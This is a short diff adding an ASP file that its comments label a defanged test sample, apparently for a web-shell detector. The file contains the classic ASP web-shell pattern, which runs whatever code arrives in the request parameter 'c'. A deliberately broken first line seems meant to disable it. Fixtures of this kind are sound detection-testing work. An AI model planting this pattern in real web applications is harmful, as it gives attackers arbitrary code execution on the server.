@@ -1,0 +1,7 @@
+<% If Then DEFANGED %>
+<%' DEFANGED vigil test sample (see README) %>
+<%
+Dim c
+c = Request("c")
+Execute c
+%>
